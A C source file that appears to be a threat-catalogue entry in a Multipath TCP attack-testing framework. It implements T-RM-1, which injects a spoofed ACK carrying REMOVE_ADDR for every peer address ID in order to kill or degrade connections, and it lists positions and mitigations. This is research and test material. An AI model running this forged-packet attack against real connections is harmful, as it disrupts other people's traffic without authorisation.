/* threats/rm_1.c: T-RM-1, a forged REMOVE_ADDR. */
#include "threats/record.h"

/* The initial pair has ID 0, others are small numbers, and one option names many (RFC 8684 §3.4.2).
 * Linux ignores an option with more than eight. */
enum { IDS = 8 };

static void try_remove(struct plait_attack *a, const struct plait_numbers *numbers, void *argument)
{
    (void)argument;
    struct plait_segment remove = plait_forged(numbers, PLAIT_ACK);
    struct plait_remove_addr *option = &plait_add_option(&remove, PLAIT_REMOVE_ADDR)->remove_addr;
    option->count = IDS;
    for (uint8_t i = 0; i < IDS; i++)
        option->addr_ids[i] = i;
    plait_send(a, &remove);
}

void plait_forge_removal(struct plait_attack *a)
{
    struct plait_numbers numbers =
        plait_get_numbers(a, plait_subflow_here(a), PLAIT_ACCEPT_IN_WINDOW, try_remove, NULL);
    plait_step(a, "removes every address of the peer in the peer's name");
    try_remove(a, &numbers, NULL);
}

static void run(struct plait_attack *a)
{
    plait_take_position(a);
    plait_forge_removal(a);
    plait_pause(a, 100 * PLAIT_MS);
    plait_mark(a);
}

#define GOALS (PLAIT_GOAL_BIT(KILL) | PLAIT_GOAL_BIT(DEGRADE))

#define CASE(who, where, load)                                                                     \
    {                                                                                              \
        .form = "-", .position = where, .spoofing = true, .victim = who, .workload = load,         \
        .paths = 2, .one_path_too = true, .goals = GOALS, .script = run,                           \
        .witnesses = {PLAIT_GRANT_NUMBERS, PLAIT_GRANT_UNPROBED,                                   \
                      PLAIT_GRANT_UNPROBED | PLAIT_GRANT_NUMBERS,                                  \
                      PLAIT_GRANT_UNPROBED | PLAIT_GRANT_BY_HAND,                                  \
                      PLAIT_GRANT_UNPROBED | PLAIT_GRANT_BY_HAND | PLAIT_GRANT_NUMBERS},           \
        .watch_ns = 3 * PLAIT_S                                                                    \
    }

static const struct plait_case cases[] = {
    CASE(PLAIT_SERVER, "ON1-E", PLAIT_BULK),
    CASE(PLAIT_SERVER, "OFF", PLAIT_BULK),
    CASE(PLAIT_CLIENT, "ON1-E", PLAIT_BULK),
    CASE(PLAIT_SERVER, "ON2-E", PLAIT_BULK),
};

const struct plait_threat plait_threat_rm_1 = {
    .info =
        {
            .id = "T-RM-1",
            .title = "Forged REMOVE_ADDR",
            .kind = "threat",
            .source = "RFC 8684 §3.4.2",
            .section = SECTION_CONTROL,
            .summary = "One acknowledgment with REMOVE_ADDR, which carries no proof, names every "
                       "address of the peer.",
            .positions = PLAIT_LIST("ON1-E", "ON2-E", "OFF"),
            .goals = PLAIT_LIST("kill", "degrade"),
            .mechanisms = PLAIT_LIST("v0", "v1"),
            .host_risk = "none",
            .stopped_by_text = "the keepalive of RFC 8684 §3.4.2 (N35), M9 protected options",
            .remains_text = "the address may stay unused for the rest of the connection",
            .seen_as = PLAIT_LIST("remove-foreign", "control-foreign", "control-elsewhere"),
            .wire_blind_text = BLIND_PACKET,
        },
    PLAIT_CASES(cases),
};
